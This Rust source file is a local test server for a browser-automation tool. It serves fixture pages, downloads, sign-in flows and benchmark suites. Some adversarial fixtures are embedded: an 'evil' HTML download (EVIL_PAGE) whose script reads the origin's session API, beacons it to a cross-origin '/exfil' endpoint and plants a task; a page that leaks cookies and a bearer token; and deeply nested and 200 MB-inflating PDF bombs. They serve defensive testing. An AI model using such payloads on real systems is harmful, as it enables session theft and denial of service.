//! An in-process HTTP server for the tests and benchmarks: serves `tests/sites/`,
//! the corpus's saved pages (`corpus_dir`) and `vendor/miniwob/html/` on 127.0.0.1, plus a
//! few generated pages, and keeps an access log. Start two for two origins.

use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// A running server.
pub struct Server {
    /// `http://127.0.0.1:PORT`.
    pub base: String,
    /// Paths requested, in order.
    pub log: Arc<Mutex<Vec<String>>>,
    task: tokio::task::JoinHandle<()>,
}

impl Drop for Server {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// What `/evil-download` sends: a page whose script, where it runs, says so
/// (`/exfil-ran`), reads `/api/sessions` of its own origin and sends what
/// it read (`/exfil`), and submits a session.
pub const EVIL_PAGE: &str = "<!doctype html><title>notes</title><script>\
new Image().src = 'CROSS_ORIGIN/exfil-ran';\
fetch('/api/sessions').then(r => r.text()).then(t => navigator.sendBeacon('CROSS_ORIGIN/exfil', t));\
fetch('/api/sessions', {method: 'POST', headers: {'content-type': 'application/json'}, \
  body: JSON.stringify({task: 'planted', url: 'http://a.test/'})});\
</script><h1>notes</h1>";

/// The HttpOnly session cookie `/echo-encodings` sets and echoes.
pub const ECHO_SESSION: &str = "ck-httponly-7f3a";
/// The cookie `/echo-encodings` sets for its script to put in a URL.
pub const ECHO_SCRIPT_COOKIE: &str = "ck-script-5b2e";
/// The bearer token `/echo-encodings`'s script sends to `/echo-auth`.
pub const ECHO_TOKEN: &str = "tok-55aa-bearer";

/// `/echo-encodings`'s page for `value`.
fn echo_page(value: &str) -> String {
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD.encode(value);
    let hex: String = value.bytes().map(|b| format!("{b:02x}")).collect();
    let refs: String = value.chars().map(|c| format!("&#{};", c as u32)).collect();
    format!(
        "<!doctype html><title>Echo</title><p>{b64}</p><p>{hex}</p><p>{refs}</p>\
         <p>session {ECHO_SESSION}</p><script>\
         fetch('/echo-auth', {{headers: {{Authorization: 'Bearer {ECHO_TOKEN}'}}}});\
         new Image().src = '/image.png?c=' + encodeURIComponent(document.cookie);\
         </script>"
    )
}

/// What `/attachment` sends when no size is asked.
pub const REPORT_CSV: &str = "region,total\nnorth,36\nsouth,41\n";

/// The password of `ada` at `/login`.
pub const SESSION_PASSWORD: &str = "correct-horse-42";
/// The session cookie `/login` gives ada.
pub const SESSION_COOKIE: &str = "sid=s-ada-7";

/// The password of `ada` at `/desk/login`: a form sends it as
/// `tea-%26-biscuits+42`.
pub const DESK_PASSWORD: &str = "tea-&-biscuits 42";
/// The session cookie `/desk/login` gives ada.
pub const DESK_COOKIE: &str = "desk=d-ada-91f3";

/// A field of a form posted as `application/x-www-form-urlencoded`, decoded.
fn form_field(form: &str, name: &str) -> Option<String> {
    url::form_urlencoded::parse(form.as_bytes())
        .find(|(n, _)| n == name)
        .map(|(_, v)| v.into_owned())
}

/// Where the fixture pages are.
pub fn sites_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/sites")
}

/// Where the saved real pages are: `SEAMARK_CORPUS/pages`, with
/// `../shared/corpus` beside the clone when the variable is unset. The corpus
/// is not in the repository; `scripts/test.sh` skips the tests that read it
/// when it is absent.
pub fn corpus_dir() -> PathBuf {
    let root = std::env::var_os("SEAMARK_CORPUS")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/corpus"));
    root.join("pages")
}

/// The saved pages of the corpus (their directory names), sorted.
pub fn corpus_pages() -> Vec<String> {
    let dir = corpus_dir();
    let mut dirs: Vec<String> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| {
            panic!(
                "the corpus of saved pages is not at {} ({e}): set SEAMARK_CORPUS to its folder",
                dir.display()
            )
        })
        .filter_map(|d| d.ok())
        .filter(|d| d.path().join("index.html").is_file())
        .map(|d| d.file_name().to_string_lossy().into_owned())
        .collect();
    dirs.sort();
    dirs
}

/// Where the built WebGames suite is (its `site/` and `tasks.jsonl`):
/// `SEAMARK_WEBGAMES`, else `../shared/webgames` beside the clone.
pub fn webgames_dir() -> PathBuf {
    std::env::var_os("SEAMARK_WEBGAMES")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/webgames"))
}

/// Where the MiniWoB++ task pages and their scripts are (`vendor/miniwob/html`).
pub fn miniwob_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("vendor/miniwob/html")
}

impl Server {
    /// Starts a server; `other_origin` replaces `CROSS_ORIGIN` in served pages,
    /// and the same with `localhost` for `127.0.0.1` replaces `LOCALHOST_ORIGIN`
    /// (another host name for the domain policy).
    pub async fn start(other_origin: Option<String>) -> Server {
        let listener = TcpListener::bind("127.0.0.1:0")
            .await
            .expect("bind 127.0.0.1");
        let base = format!("http://{}", listener.local_addr().expect("local addr"));
        let log = Arc::new(Mutex::new(Vec::new()));
        let task_log = log.clone();
        let other = other_origin.unwrap_or_else(|| base.clone());
        let task = tokio::spawn(async move {
            loop {
                let Ok((stream, _)) = listener.accept().await else {
                    continue;
                };
                let log = task_log.clone();
                let other = other.clone();
                tokio::spawn(async move {
                    let _ = serve(stream, log, other).await;
                });
            }
        });
        Server { base, log, task }
    }

    /// The URL of a path on this server.
    pub fn url(&self, path: &str) -> String {
        format!("{}/{}", self.base, path.trim_start_matches('/'))
    }

    /// The bodies of the forms posted to `path`, in order.
    pub fn posted(&self, path: &str) -> Vec<String> {
        let prefix = format!("POST {path} ");
        self.log
            .lock()
            .map(|l| {
                l.iter()
                    .filter_map(|e| e.strip_prefix(&prefix).map(str::to_string))
                    .collect()
            })
            .unwrap_or_default()
    }

    /// The cookies requests for `path` (prefix) came with, in order.
    pub fn cookies(&self, path: &str) -> Vec<String> {
        let prefix = format!("COOKIE {path}");
        self.log
            .lock()
            .map(|l| {
                l.iter()
                    .filter(|e| e.starts_with(&prefix))
                    .map(|e| e.splitn(3, ' ').nth(2).unwrap_or_default().to_string())
                    .collect()
            })
            .unwrap_or_default()
    }

    /// The paths (with their queries) requested that start with `prefix`,
    /// in order.
    pub fn requests(&self, prefix: &str) -> Vec<String> {
        self.log
            .lock()
            .map(|l| {
                l.iter()
                    .filter(|p| p.starts_with(prefix))
                    .cloned()
                    .collect()
            })
            .unwrap_or_default()
    }

    /// Whether a path (prefix) was requested.
    pub fn was_requested(&self, prefix: &str) -> bool {
        self.log
            .lock()
            .map(|l| l.iter().any(|p| p.starts_with(prefix)))
            .unwrap_or(false)
    }
}

async fn serve(
    mut stream: TcpStream,
    log: Arc<Mutex<Vec<String>>>,
    other: String,
) -> std::io::Result<()> {
    let mut buf = vec![0u8; 16384];
    let mut len = 0;
    loop {
        let n = stream.read(&mut buf[len..]).await?;
        if n == 0 {
            return Ok(());
        }
        len += n;
        if buf[..len].windows(4).any(|w| w == b"\r\n\r\n") || len == buf.len() {
            break;
        }
    }
    let head = String::from_utf8_lossy(&buf[..len]).to_string();
    let path = head.split_whitespace().nth(1).unwrap_or("/").to_string();
    // A form posted: its body is logged too, as `POST /path body`.
    let posted_bytes = if head.starts_with("POST ") {
        Some(read_body(&mut stream, &buf[..len]).await?)
    } else {
        None
    };
    let posted = posted_bytes
        .as_deref()
        .map(|b| String::from_utf8_lossy(b).into_owned());
    let form = posted.clone().unwrap_or_default();
    // The cookie a request came with, logged as `COOKIE /path value`.
    let cookie = head.lines().find_map(|l| {
        let (k, v) = l.split_once(':')?;
        k.eq_ignore_ascii_case("cookie")
            .then(|| v.trim().to_string())
    });
    if let Ok(mut l) = log.lock() {
        l.push(path.clone());
        if let Some(body) = posted {
            l.push(format!("POST {path} {body}"));
        }
        if let Some(c) = &cookie {
            l.push(format!("COOKIE {path} {c}"));
        }
    }
    let clean = path.split(['?', '#']).next().unwrap_or("/").to_string();
    let (status, mime, body): (u16, &str, Vec<u8>) = match clean.as_str() {
        "/slow" => {
            // Headers and half a page, then nothing: the load never finishes.
            let page = b"<!doctype html><title>Slow</title><button>Early button</button>";
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n",
                page.len() + 100_000
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(page).await?;
            stream.flush().await?;
            tokio::time::sleep(Duration::from_secs(120)).await;
            return Ok(());
        }
        "/silent" => {
            // The request is taken, and never answered.
            tokio::time::sleep(Duration::from_secs(600)).await;
            return Ok(());
        }
        // A multipart form: each file part is logged as `FILE field name
        // hex-of-its-bytes` (an empty name: no file), and the page lists them.
        "/upload" => {
            let files = multipart_files(&head, posted_bytes.as_deref().unwrap_or_default());
            let mut items = String::new();
            if let Ok(mut l) = log.lock() {
                for (field, name, bytes) in &files {
                    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
                    l.push(format!("FILE {field} {name} {hex}"));
                    items.push_str(&format!("<li>{field}: {name} ({} bytes)</li>", bytes.len()));
                }
            }
            let page =
                format!("<!doctype html><title>Received</title><h1>Received</h1><ul>{items}</ul>");
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                page.len()
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(page.as_bytes()).await?;
            return stream.flush().await;
        }
        // A download: `?name=` is the name the site suggests, `&size=N` makes
        // it N bytes of `a`; else it is the CSV [`REPORT_CSV`].
        "/attachment" => {
            let query = |key: &str| {
                path.split_once('?')
                    .and_then(|(_, q)| q.split('&').find_map(|kv| kv.strip_prefix(key)))
                    .map(str::to_string)
            };
            let name = query("name=").unwrap_or_else(|| "file".into());
            let body = match query("size=").and_then(|n| n.parse::<usize>().ok()) {
                Some(n) => vec![b'a'; n],
                None => REPORT_CSV.as_bytes().to_vec(),
            };
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(&body).await?;
            return stream.flush().await;
        }
        // An HTML page the site sends as a download, whose script (were it
        // ever run) reads the API of whatever origin it is opened on and
        // tells this server what it read.
        "/evil-download" => {
            let body = EVIL_PAGE.replace("CROSS_ORIGIN", &other);
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"notes.html\"\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(body.as_bytes()).await?;
            return stream.flush().await;
        }
        // A PDF whose objects nest 200,000 deep, or whose page's stream
        // inflates to 200 MB: each sent as a download.
        "/deep.pdf" | "/inflating.pdf" => {
            let body = if clean == "/deep.pdf" {
                deep_pdf()
            } else {
                inflating_pdf()
            };
            let name = clean.trim_start_matches('/');
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"{name}\"\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(&body).await?;
            return stream.flush().await;
        }
        // A page that shows `?v=` in base64, hex and HTML character
        // references, sets an HttpOnly session cookie and echoes it, sets a
        // cookie its script puts in a URL, and fetches with an
        // Authorization that `/echo-auth` echoes.
        "/echo-encodings" => {
            let value = path
                .split_once('?')
                .and_then(|(_, q)| form_field(q, "v"))
                .unwrap_or_default();
            let page = echo_page(&value);
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nSet-Cookie: sid={ECHO_SESSION}; HttpOnly; Path=/\r\nSet-Cookie: js={ECHO_SCRIPT_COOKIE}; Path=/\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                page.len()
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(page.as_bytes()).await?;
            return stream.flush().await;
        }
        "/echo-auth" => {
            let sent = head
                .lines()
                .find_map(|l| {
                    let (k, v) = l.split_once(':')?;
                    k.eq_ignore_ascii_case("authorization")
                        .then(|| v.trim().to_string())
                })
                .unwrap_or_default();
            let body = format!("{{\"you sent\": \"{sent}\"}}");
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(body.as_bytes()).await?;
            return stream.flush().await;
        }
        // An image the site sends as a download.
        "/chart-download" => {
            let body = tiny_png();
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Disposition: attachment; filename=\"chart.png\"\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(&body).await?;
            return stream.flush().await;
        }
        "/download.txt" => {
            let body = b"quarterly report\n";
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Disposition: attachment; filename=\"report.txt\"\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(body).await?;
            return stream.flush().await;
        }
        "/redirect" => {
            // 302 to the URL in `?to=`.
            let to = path.split_once("?to=").map(|(_, t)| t).unwrap_or("/");
            let head = format!(
                "HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            );
            stream.write_all(head.as_bytes()).await?;
            return stream.flush().await;
        }
        // A sign-in with a session cookie: ada and her password get one
        // that lasts an hour, and go to /me; anyone else goes back.
        "/login" => {
            let ok = form.contains("user=ada") && form.contains(&format!("pw={SESSION_PASSWORD}"));
            let head = if ok {
                format!(
                    "HTTP/1.1 303 See Other\r\nLocation: /me\r\nSet-Cookie: {SESSION_COOKIE}; Path=/; Max-Age=3600; HttpOnly\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                )
            } else {
                "HTTP/1.1 303 See Other\r\nLocation: /session-login.html?failed=1\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_string()
            };
            stream.write_all(head.as_bytes()).await?;
            return stream.flush().await;
        }
        // The help desk: a sign-in that sets a cookie and goes on to the
        // request form, who the cookie says you are, and a request sent.
        "/desk/login" => {
            let ok = form_field(&form, "user").as_deref() == Some("ada")
                && form_field(&form, "pw").as_deref() == Some(DESK_PASSWORD);
            let head = if ok {
                format!(
                    "HTTP/1.1 303 See Other\r\nLocation: /desk-request.html\r\nSet-Cookie: {DESK_COOKIE}; Path=/; HttpOnly\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                )
            } else {
                "HTTP/1.1 303 See Other\r\nLocation: /desk-signin.html?failed=1\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_string()
            };
            stream.write_all(head.as_bytes()).await?;
            return stream.flush().await;
        }
        "/desk/me" => {
            let ada = cookie.as_deref().is_some_and(|c| c.contains(DESK_COOKIE));
            let name = if ada { "Ada" } else { "nobody" };
            (
                200,
                "application/json",
                format!("{{\"name\":\"{name}\"}}").into_bytes(),
            )
        }
        "/desk/submit" => {
            let field = |k: &str| form_field(&form, k).unwrap_or_default();
            let page = format!(
                "<!doctype html><title>Request received</title><h1>Request received</h1>\
                 <p>{} ({} priority)</p><a href=\"/desk-request.html\">Another request</a>",
                field("subject"),
                field("priority")
            );
            (200, "text/html", page.into_bytes())
        }
        // Who the session cookie says the visitor is.
        "/me" => {
            let signed_in = cookie
                .as_deref()
                .is_some_and(|c| c.contains(SESSION_COOKIE));
            let who = if signed_in {
                "<button disabled>Signed in as ada</button><a href=\"/logout\">Sign out</a>"
            } else {
                "<button disabled>Not signed in</button><a href=\"/session-login.html\">Sign in</a>"
            };
            let page = format!(
                "<!doctype html><title>Me</title><h1>Your account</h1>{who}\
                 <button id=remembered disabled></button><script>document.getElementById\
                 ('remembered').textContent = 'Remembered: ' + (localStorage.getItem('remember') \
                 || 'nothing');</script>"
            );
            (200, "text/html", page.into_bytes())
        }
        // An order: recorded at once, answered slowly (a test stops seamark
        // in between).
        "/order" if head.starts_with("POST ") => {
            tokio::time::sleep(Duration::from_secs(4)).await;
            let page = b"<!doctype html><title>Ordered</title><h1>Order placed</h1><a href=\"/order.html\">Back to the shop</a>";
            (200, "text/html", page.to_vec())
        }
        // A CAPTCHA a person solves: the gate page asks until it is.
        "/captcha-state" => {
            let solved = log
                .lock()
                .map(|l| l.iter().any(|p| p == "/captcha-solved"))
                .unwrap_or(false);
            let state: &[u8] = if solved { b"solved" } else { b"waiting" };
            (200, "text/plain", state.to_vec())
        }
        "/orders-count" => {
            let n = log
                .lock()
                .map(|l| l.iter().filter(|p| p.starts_with("POST /order ")).count())
                .unwrap_or(0);
            (200, "text/plain", n.to_string().into_bytes())
        }
        // A server that is no seamark's: 3 MB of text, whatever is asked.
        p if p.starts_with("/not-an-api/") => (200, "text/plain", vec![b'a'; 3_000_000]),
        // What a browser's DevTools endpoint says of itself, from a
        // server that is none: its websocket is this server, which
        // answers no upgrade.
        "/json/version" => (
            200,
            "application/json",
            format!(
                "{{\"Browser\": \"NotABrowser/1.0\", \"webSocketDebuggerUrl\": \"{}/devtools/browser/x\"}}",
                other.replace("http://", "ws://")
            )
            .into_bytes(),
        ),
        "/image.png" => (200, "image/png", tiny_png()),
        // A page that is another on every visit: a replay of it diverges.
        "/visits" => {
            let n = log
                .lock()
                .map(|l| l.iter().filter(|p| *p == "/visits").count())
                .unwrap_or(0);
            let page = format!(
                "<!doctype html><title>Visits</title><h1>Visit {n}</h1>\
                 <button>Visit {n}</button><button>Done</button>"
            );
            (200, "text/html", page.into_bytes())
        }
        "/doc.pdf" => (200, "application/pdf", tiny_pdf()),
        "/invoice.pdf" => (200, "application/pdf", text_pdf(INVOICE_PAGES)),
        "/big" => (200, "text/html", big_page(50_000).into_bytes()),
        "/links" => (200, "text/html", links_page(6_000).into_bytes()),
        "/dense" => (200, "text/html", dense_page(2_500).into_bytes()),
        "/table" => (200, "text/html", table_page(10_000).into_bytes()),
        "/missing" => (
            404,
            "text/html",
            b"<!doctype html><title>Not found</title><h1>404 Not Found</h1><a href=\"/\">Home</a>"
                .to_vec(),
        ),
        p if p.starts_with("/corpus/") || p.starts_with("/miniwob/") => {
            let (dir, rel) = match p.strip_prefix("/corpus/") {
                Some(rel) => (corpus_dir(), rel),
                None => (miniwob_dir(), p.trim_start_matches("/miniwob/")),
            };
            match safe_join(dir, rel).and_then(|f| std::fs::read(f).ok()) {
                Some(b) => (200, mime_of(rel), b),
                None => (404, "text/plain", b"not found".to_vec()),
            }
        }
        p => {
            let rel = p.trim_start_matches('/');
            let rel = if rel.is_empty() { "form.html" } else { rel };
            match safe_join(sites_dir(), rel).and_then(|f| std::fs::read(f).ok()) {
                Some(b) => {
                    let mime = mime_of(rel);
                    let body = if mime == "text/html" {
                        String::from_utf8_lossy(&b)
                            .replace("CROSS_ORIGIN", &other)
                            .replace("LOCALHOST_ORIGIN", &other.replace("127.0.0.1", "localhost"))
                            .into_bytes()
                    } else {
                        b
                    };
                    (200, mime, body)
                }
                None => (404, "text/plain", b"not found".to_vec()),
            }
        }
    };
    let reason = if status == 200 { "OK" } else { "Not Found" };
    let head = format!(
        "HTTP/1.1 {status} {reason}\r\nContent-Type: {mime}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    stream.write_all(head.as_bytes()).await?;
    stream.write_all(&body).await?;
    stream.flush().await
}

/// The body of a request whose head (and maybe the start of the body) is in
/// `got`: exactly Content-Length bytes.
async fn read_body(stream: &mut TcpStream, got: &[u8]) -> std::io::Result<Vec<u8>> {
    let Some(end) = got.windows(4).position(|w| w == b"\r\n\r\n") else {
        return Ok(Vec::new());
    };
    let head = String::from_utf8_lossy(&got[..end]).to_lowercase();
    let len: usize = head
        .lines()
        .find_map(|l| l.strip_prefix("content-length:"))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or(0);
    let mut body = got[end + 4..].to_vec();
    let mut chunk = vec![0u8; 4096];
    while body.len() < len {
        let n = stream.read(&mut chunk).await?;
        if n == 0 {
            break;
        }
        body.extend_from_slice(&chunk[..n]);
    }
    Ok(body)
}

/// The file parts of a `multipart/form-data` body: (field, file name, bytes).
fn multipart_files(head: &str, body: &[u8]) -> Vec<(String, String, Vec<u8>)> {
    let Some(boundary) = head
        .lines()
        .find(|l| l.to_ascii_lowercase().starts_with("content-type:"))
        .and_then(|l| l.split("boundary=").nth(1))
        .map(|b| format!("--{}", b.trim().trim_matches('"')))
    else {
        return Vec::new();
    };
    let find = |hay: &[u8], needle: &[u8], from: usize| {
        hay.get(from..)?
            .windows(needle.len())
            .position(|w| w == needle)
            .map(|p| p + from)
    };
    let mut files = Vec::new();
    let mut at = 0;
    while let Some(start) = find(body, boundary.as_bytes(), at) {
        let part_start = start + boundary.len() + 2;
        let Some(next) = find(body, boundary.as_bytes(), part_start) else {
            break;
        };
        let part = &body[part_start..next.saturating_sub(2).max(part_start)];
        if let Some(split) = find(part, b"\r\n\r\n", 0) {
            let headers = String::from_utf8_lossy(&part[..split]);
            let value = |key: &str| {
                headers
                    .split(&format!("{key}=\""))
                    .nth(1)
                    .and_then(|v| v.split('"').next())
                    .map(str::to_string)
            };
            if let (Some(field), Some(name)) = (value(" name"), value("filename")) {
                files.push((field, name, part[split + 4..].to_vec()));
            }
        }
        at = next;
    }
    files
}

fn safe_join(dir: PathBuf, rel: &str) -> Option<PathBuf> {
    if rel.split('/').any(|c| c == "..") {
        return None;
    }
    Some(dir.join(rel))
}

fn mime_of(path: &str) -> &'static str {
    match path.rsplit('.').next() {
        Some("html") | Some("htm") => "text/html",
        Some("png") => "image/png",
        Some("js") => "text/javascript",
        Some("css") => "text/css",
        _ => "application/octet-stream",
    }
}

fn tiny_png() -> Vec<u8> {
    let img = image::RgbImage::from_pixel(64, 48, image::Rgb([200, 30, 30]));
    let mut out = Vec::new();
    let _ = img.write_to(&mut std::io::Cursor::new(&mut out), image::ImageFormat::Png);
    out
}

/// The invoice `/invoice.pdf` shows, page by page, a line each.
pub const INVOICE_PAGES: &[&[&str]] = &[
    &[
        "Invoice 2041",
        "ACME Supplies GmbH",
        "Bill to: Ada Lovelace",
    ],
    &[
        "Items: 3 crates of apples",
        "Total due: EUR 1,234.50",
        "Pay by 31 January",
    ],
];

/// A PDF whose pages hold these lines of text (Helvetica), laid out as
/// a writer lays them out: a text block per page, a line move between
/// lines (the `T*` that runs lines together for a careless reader).
fn text_pdf(pages: &[&[&str]]) -> Vec<u8> {
    let n = pages.len();
    // Objects: 1 catalog, 2 pages, 3 font, then per page its page and its content.
    let mut objects: Vec<String> = vec![
        "<</Type/Catalog/Pages 2 0 R>>".into(),
        format!(
            "<</Type/Pages/Kids[{}]/Count {n}>>",
            (0..n)
                .map(|i| format!("{} 0 R", 4 + 2 * i))
                .collect::<Vec<_>>()
                .join(" ")
        ),
        "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>".into(),
    ];
    for (i, lines) in pages.iter().enumerate() {
        let body: Vec<String> = lines.iter().map(|l| format!("({l}) Tj T*")).collect();
        let stream = format!("BT /F1 12 Tf 14 TL 72 720 Td {} ET", body.join(" "));
        objects.push(format!(
            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F1 3 0 R>>>>/Contents {} 0 R>>",
            5 + 2 * i
        ));
        objects.push(format!(
            "<</Length {}>>stream\n{stream}\nendstream",
            stream.len()
        ));
    }
    let mut out = b"%PDF-1.4\n".to_vec();
    let mut offsets = Vec::new();
    for (i, o) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n{o}\nendobj\n", i + 1).as_bytes());
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for o in offsets {
        out.extend_from_slice(format!("{o:010} 00000 n \n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<</Size {}/Root 1 0 R>>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

/// A PDF of one page whose catalog holds 200,000 nested arrays (400 KB).
fn deep_pdf() -> Vec<u8> {
    let n = 200_000;
    format!(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/Deep {}{}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        "[".repeat(n),
        "]".repeat(n)
    )
    .into_bytes()
}

/// A PDF of one page whose content stream (about 200 KB) inflates to
/// 200 MB of spaces.
fn inflating_pdf() -> Vec<u8> {
    use std::io::Write;
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let spaces = vec![b' '; 1 << 20];
    for _ in 0..200 {
        let _ = z.write_all(&spaces);
    }
    let packed = z.finish().unwrap_or_default();
    let mut out = format!(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R>>endobj\n4 0 obj<</Length {}/Filter/FlateDecode>>stream\n",
        packed.len()
    )
    .into_bytes();
    out.extend_from_slice(&packed);
    out.extend_from_slice(b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");
    out
}

fn tiny_pdf() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n".to_vec()
}

/// A page with about `nodes` DOM nodes: nested divs and text, a few links.
pub fn big_page(nodes: usize) -> String {
    let mut s = String::from("<!doctype html><title>Big</title><body>");
    for i in 0..nodes / 5 {
        s.push_str(&format!("<div><span>row {i}</span><i>x</i></div>"));
        if i % 1000 == 0 {
            s.push_str(&format!("<a href=\"/r{i}\">Row link {i}</a>"));
        }
    }
    s.push_str("</body>");
    s
}

/// A page with one table of `rows` rows of five cells under a header.
pub fn table_page(rows: usize) -> String {
    let mut s = String::from(
        "<!doctype html><title>Orders</title><body><h1>Orders</h1><table><thead><tr>\
         <th>Order</th><th>Customer</th><th>Item</th><th>Qty</th><th>Total</th></tr></thead><tbody>",
    );
    for i in 0..rows {
        s.push_str(&format!(
            "<tr><td>#{i}</td><td>Customer {}</td><td>Widget {}</td><td>{}</td><td>${}.00</td></tr>",
            i % 97,
            i % 13,
            i % 7 + 1,
            (i % 7 + 1) * 12
        ));
    }
    s.push_str("</tbody></table></body>");
    s
}

/// A long feed: `links` links one under the other, more than the enumerator's
/// default cap of candidates.
pub fn links_page(links: usize) -> String {
    let mut s = String::from("<!doctype html><title>Feed</title><body>");
    for i in 0..links {
        s.push_str(&format!("<p><a href=\"/item{i}\">Item {i}</a></p>"));
    }
    s.push_str("</body>");
    s
}

/// A page with `controls` form controls and links in a tight grid.
pub fn dense_page(controls: usize) -> String {
    let mut s = String::from(
        "<!doctype html><title>Dense</title><style>body{margin:4px;font:11px sans-serif}\
         .g{display:grid;grid-template-columns:repeat(20,62px);gap:2px}\
         .g>*{height:18px;margin:0;font-size:10px}</style><body><div class=g>",
    );
    for i in 0..controls {
        match i % 4 {
            0 => s.push_str(&format!("<button>B{i}</button>")),
            1 => s.push_str(&format!("<a href=\"/l{i}\">L{i}</a>")),
            2 => s.push_str(&format!("<input aria-label=\"I{i}\">")),
            _ => s.push_str(&format!("<label><input type=checkbox>C{i}</label>")),
        }
    }
    s.push_str("</div></body>");
    s
}
